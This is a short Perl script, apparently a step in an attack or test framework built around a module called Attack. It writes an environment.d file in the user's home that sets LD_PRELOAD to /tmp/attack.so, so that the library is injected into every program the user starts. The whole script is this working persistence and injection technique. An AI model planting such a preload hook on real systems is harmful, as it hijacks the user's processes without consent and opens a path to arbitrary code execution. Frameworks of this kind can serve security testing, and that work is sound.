# Leaves a line in the user's home that loads its library into every program.
use strict;
use warnings;
use lib $ENV{PROGRAMS};
use Attack;

my $directory = want('HOME_DIR') . '/.config/environment.d';
for my $made (want('HOME_DIR') . '/.config', $directory) {
    -d $made or mkdir($made) or stopped("making $made");
}
succeeded("$directory/attack.conf is there") if append("$directory/attack.conf", "LD_PRELOAD=/tmp/attack.so\n");
stopped('nothing arrived');
